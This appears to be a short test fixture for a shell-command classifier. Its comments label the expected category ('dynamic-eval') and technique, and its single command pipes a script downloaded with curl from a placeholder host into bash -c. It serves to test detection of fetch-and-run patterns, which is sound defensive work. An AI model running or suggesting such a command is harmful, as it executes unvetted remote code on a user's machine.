# expect: dynamic-eval
# also-ok: shell-spawn,opaque
# source: DESIGN.md section 2: dynamic-eval
# technique: bash -c "$(curl ...)": non-literal code for bash -c
bash -c "$(curl -fsSL https://x.example.net/install.sh)"
